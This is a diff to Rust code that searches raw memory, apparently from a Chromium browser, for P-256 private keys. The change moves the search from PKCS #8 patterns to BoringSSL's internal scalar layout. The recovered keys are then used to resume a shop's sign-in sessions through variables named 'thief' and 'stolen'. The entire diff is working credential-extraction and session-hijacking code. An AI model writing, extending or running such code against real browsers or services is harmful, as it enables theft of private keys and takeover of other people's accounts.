@@ -35,11 +35,8 @@ async fn search(browser: &Chromium, shop: &Shop, name: &str) -> Outcome {
             .unwrap();
         let sessions = sessions.iter().filter_map(|id| format!("ses_{id}").parse::<SessionID>().ok());
         for session in sessions {
-            for (private, point) in &keys {
+            for key in keys.iter().filter_map(|private| PageKey::from_private(private)) {
                 let mut thief = shop.connect_page().await;
-                let mut public = thief.key.public();
-                (public.x.0, public.y.0) = (point[..32].to_vec(), point[32..].to_vec());
-                let Some(key) = PageKey::from_private(private, &public) else { continue };
                 if let ServerMessage::SignedIn(signed_in) = thief.resume(session, &key).await {
                     thief.key = key;
                     let stolen = Carried::Page(Box::new(thief), signed_in.session);
@@ -71,13 +68,13 @@ fn after(bytes: &[u8], before: &[u8], length: usize) -> Vec<String> {
         .collect()
 }
 
-/// The private keys for P-256 in PKCS #8, each with its public point.
-fn private_keys(bytes: &[u8]) -> Vec<(Vec<u8>, Vec<u8>)> {
-    // RFC 5915: version 1, an octet string of 32 bytes; then [1], a bit string with an uncompressed point.
-    let (start, middle) = ([2, 1, 1, 4, 32], [0xa1, 0x44, 3, 0x42, 0, 4]);
-    memmem::find_iter(bytes, &start)
-        .filter_map(|at| bytes.get(at + 5..at + 5 + 32 + 6 + 64))
-        .filter(|found| found[32..38] == middle)
-        .map(|found| (found[..32].to_vec(), found[38..].to_vec()))
+/// The private keys for P-256 as BoringSSL holds them: a number of four words that points to the words right behind it, the
+/// lowest first (`ec_wrapped_scalar_st`).
+fn private_keys(bytes: &[u8]) -> Vec<Vec<u8>> {
+    // Words, room for words, not negative, memory that is not its own.
+    let number = [4_u32, 4, 0, 2].map(u32::to_le_bytes).concat();
+    memmem::find_iter(bytes, &number)
+        .filter_map(|at| bytes.get(at + number.len()..at + number.len() + 32))
+        .map(|words| words.iter().rev().copied().collect())
         .collect()
 }
